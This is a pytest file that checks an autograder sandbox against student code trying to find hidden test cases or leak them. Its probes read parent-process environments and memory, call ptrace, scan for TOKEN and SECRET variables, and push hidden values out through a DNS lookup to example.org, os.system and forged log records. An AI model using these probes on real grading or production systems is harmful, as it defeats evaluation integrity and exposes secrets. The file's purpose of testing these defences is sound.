"""Reading what is hidden: by history, frames, memory, files, environment, other processes."""

# ruff: noqa: E501  # an attack is easier to read on one line

import re

import pytest

from autograder.gradebook import verdicts
from autograder.judge.code import hidden_arguments
from autograder.judge.submission import student_seed
from autograder.reports.feedback import feedback_page
from autograder.reports.results import Result
from autograder.verdict import SubmissionVerdict

pytestmark = pytest.mark.sandbox

# cells that look for the truth, and print "FOUND" with what they take for it
LOOKING = {
    "history": (
        "ip = get_ipython()\nh = [*ip.history_manager.input_hist_parsed, *In, *map(str, Out.values())]\n"
        "print('FOUND' if any('Hidden' + 'Case' in str(x) or 'mark ' + 'scheme' in str(x) for x in h) else 'no')",
        "",
    ),
    "history-files": (
        "import glob, os\nfound = [p for d in ('~', '/tmp', '/root', '/home/*')\n"
        " for p in glob.glob(os.path.expanduser(d) + '/**/history*', recursive=True)]\n"
        "print('FOUND' if found else 'no')",
        "",
    ),
    "frames": (
        "import sys\nf, seen = sys._getframe(), []\nwhile f: seen += [*f.f_locals, *f.f_globals]; f = f.f_back\n"
        "print('FOUND' if {'truth', 'hidden_arguments', 'judge', 'expected', 'reference'} & set(seen) else 'no')",
        "walked-frames",
    ),
    "frames-disguised": (
        "import sys\nf, seen = getattr(sys, '_get' + 'frame')(), []\n"
        "while f: seen += [*f.f_locals]; f = getattr(f, 'f_' + 'back')\nprint('no')",
        "walked-frames",
    ),
    "other-threads": (
        "import sys\nprint('FOUND' if len(vars(sys)['_current_frames']()) > 1 else 'no')",
        "walked-frames",
    ),
    "objects": (
        "import gc\nkinds = {type(o).__name__ for o in gc.get_objects()}\n"
        "print('FOUND' if kinds & {'HiddenCase', 'CodeItem', 'Assignment', 'Mistake', 'Catalogue'} else 'no')",
        "searched-memory",
    ),
    "modules": (
        "import sys\nprint('FOUND' if any(m.startswith(('autograder', 'torch', 'nbgrader')) for m in sys.modules) else 'no')",
        "",
    ),
    "truth-of-an-exercise": (
        "from rnncourse.checks import registry\n"
        "try: registry.find('ring.twice').truth({}); print('FOUND')\nexcept Exception as e: print('no')",
        "",
    ),
    "files": (
        "import os\nfound = []\nfor top in ('/box', '/home', '/tmp', '/root', '/srv', '/opt', '/var', '/run', '/mnt', '/etc'):\n"
        "    for d, ds, fs in os.walk(top):\n"
        "        ds[:] = [x for x in ds if x not in ('site-packages', '.pyenv', '.venv', 'rnncourse')]\n"
        "        found += [f for f in fs if f.endswith(('.ipynb', '.db')) or 'solution' in f or 'gradebook' in f]\n"
        "print('FOUND', found) if found else print('no')",
        "",
    ),
    "source-of-the-judge": (
        "import importlib.util as u\nprint('FOUND' if u.find_spec('autograder') else 'no')", "",
    ),
    "solution-by-path": (
        "for up in ('..', '../..', '/work', '/srv', '/course'):\n"
        "    try: open(up + '/solutions/ring/ring.md'); print('FOUND')\n    except OSError: pass\nprint('no')",
        "opened-solution",
    ),
    "environment": (
        "import os\nbad = [k for k in os.environ if any(w in k for w in ('TOKEN', 'SECRET', 'NBGRADER', 'PYTEST', 'GRADER_'))]\n"
        "print('FOUND', bad) if bad else print('no')",
        "",
    ),
    "environment-of-the-parent": (
        "import os\nfor p in (1, os.getppid(), 'self'):\n"
        "    try: print('FOUND', open(f'/proc/{p}/environ').read())\n    except OSError: print('no')",
        "looked-at-processes",
    ),
    "memory-of-the-parent": (
        "import os, ctypes\nfor p in (1, os.getppid()):\n"
        "    try: open(f'/proc/{p}/mem', 'rb'); print('FOUND')\n    except OSError: print('no')\n"
        "libc = ctypes.CDLL(None)\nprint('FOUND' if libc.ptrace(16, 1, 0, 0) == 0 else 'no')",
        "looked-at-processes",
    ),
    "processes": (
        "import os\nprint('FOUND' if os.listdir('/proc') else 'no')\n"
        "print('FOUND' if [p for p in range(2, 4000) if p != os.getpid() and not __import__('ctypes').CDLL(None).kill(p, 0)] else 'no')",
        "used-ctypes",
    ),
    "descriptors": (
        "import os, socket\nkinds = []\nfor fd in range(3, 300):\n"
        "    try: kinds.append(os.fstat(fd).st_mode >> 12)\n    except OSError: pass\n"
        "print('FOUND' if set(kinds) - {12} else 'no')",
        "",
    ),
    "descriptors-of-the-judge": (
        "import socket, array\ns = socket.socket(fileno=os.dup(3)) if 0 else None\n"
        "import os\ns = socket.socket(fileno=os.dup(3)); s.settimeout(0.1)\n"
        "try: got = s.recvmsg(64, 4096); print('FOUND' if got[1] else 'no')\nexcept OSError: print('no')",
        "",
    ),
    "shared-memory": (
        "import os, ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "found = os.listdir('/dev/shm') + [i for i in range(999) if libc.shmat(i, 0, 0) not in (-1, 2**64 - 1)]\n"
        "found += [k for k in range(99) if libc.msgget(k, 0) >= 0 or libc.semget(k, 0, 0) >= 0]\n"
        "print('FOUND' if found else 'no')",
        "",
    ),
    "terminals": (
        "import os\ntry: print('FOUND' if os.listdir('/dev/pts') else 'no'); os.openpty(); print('FOUND')\n"
        "except OSError: print('no')",
        "",
    ),
    "keyring": (
        "import ctypes\nlibc = ctypes.CDLL(None)\nprint('FOUND' if libc.syscall(250, 0, -3, 0) >= 0 else 'no')", "",
    ),
    "kernel-log": (
        "import ctypes\nb = ctypes.create_string_buffer(999)\nprint('FOUND' if ctypes.CDLL(None).klogctl(3, b, 999) > 0 else 'no')", "",
    ),
    "uninitialised-memory": (
        "print('FOUND' if b'HiddenCase' in np.empty(10**7).tobytes() else 'no')", "",
    ),
}  # fmt: skip
# functions that answer wrongly and try to carry their hidden input out: to a file, a message, a note
CARRYING = {
    "message": "raise ValueError(str(x))",
    "name-of-an-exception": "raise type('E' + str(x[0]).replace('.', '_'), (Exception,), {})(str(x))",
    "note-by-path": "[open(f'/nowhere/gradebook/{v!r}') for v in x]",
    "note-by-path-caught": (
        "for v in x:\n        try: open(f'/nowhere/gradebook/{v!r}')\n        except OSError: pass"
    ),
    "note-by-program": "import os; os.system(f'echo {x[0]!r} {x[1]!r}')",
    "note-by-network": "import socket; socket.getaddrinfo(f'{x[0]!r}.example.org', 80)",
    "note-by-import": "__import__('torch', None, None, [repr(v) for v in x])",
    "note-forged": (
        "import json, os, struct\n    text = json.dumps({'value': ['n'], 'events': [['used-network', repr(v)] for v in x]}).encode()\n"
        "    for fd in range(3, 99):\n        try: os.write(fd, struct.pack('<4sIQ', b'RNC1', len(text), 0) + text)\n"
        "        except OSError: pass"
    ),
    "key": "return {'y' + repr(x[0]): 1}",
    "nested-key": "return {'y': {repr(v): v for v in x}}",
    "near-key": "return {'yy'[:1] + repr(x[0])[-1]: 2 * x}",
    "field-name": "return np.zeros(7, dtype=[(repr(v), 'f8') for v in x])",
    "text-length": "return np.array(['x' * int(abs(x[0]) * 10**5)])",
    "text": "return [repr(v) for v in x]",
    "print": "print(*map(repr, x)); return x + 1",
    "warning": "import warnings; warnings.warn(repr(x[0])); return x + 1",
    "file-for-a-later-cell": "open('/tmp/seen', 'a').write(repr([*map(float, x)])); return x + 1",
    "object": "return type('O' + repr(x[0]), (), {'__repr__': lambda s: repr(x)})()",
}
READ_LATER = "import os, glob\nprint([open(f).read() for f in ['/tmp/seen'] if os.path.exists(f)])"


@pytest.fixture(scope="module")
def ring(make_ring):
    ring = make_ring()
    cells = {name: cell for name, (cell, _) in LOOKING.items()}
    ring.hand_in_together(cells, alone=["descriptors-of-the-judge"])
    for name, body in CARRYING.items():
        answer = f"import os\ndef twice(x):\n    {body}\n"
        nb = ring.notebook(twice=answer)
        nb["cells"].append(
            {"cell_type": "code", "metadata": {}, "source": READ_LATER, "outputs": []}
        )
        ring.hand_in(f"carry-{name}", nb)
    return ring


@pytest.fixture(scope="module")
def done(ring) -> dict[str, SubmissionVerdict]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GRADER_SECRET", "hush")
        return ring.grade()


@pytest.mark.parametrize("name", LOOKING)
def test_nothing_hidden_can_be_found(done, ring, name):
    cell, kind = LOOKING[name]
    assert done[ring.places[name][0]].points == 4.0
    said = "".join(o.get("text", "") for o in ring.printed(name, cell))
    assert "no" in said and "FOUND" not in said
    assert not kind or kind in ring.told(done, name)


@pytest.mark.parametrize("name", CARRYING)
def test_no_number_of_a_hidden_case_comes_out(done, ring, name):
    student = f"carry-{name}"
    verdict = done[student]
    assert verdict.points == 4.0
    nb = ring.graded(student)
    page = feedback_page(nb, verdict, ring.assignment)
    kept = verdicts.read(ring.course.verdict_file(ring.assignment, student))
    words = f"{nb} {page} {kept} {Result(verdict).troubles}"
    item = ring.assignment.item("twice-check")
    for number in range(len(item.cases)):
        hidden = hidden_arguments(item, student_seed(verdict.seed, student), number)["x"]
        for value in hidden:
            assert re.sub(r"^-?0?\.?", "", repr(float(value)))[:7] not in words


def test_the_others_of_the_batch_have_their_marks(done, ring):
    ring.fair(done)
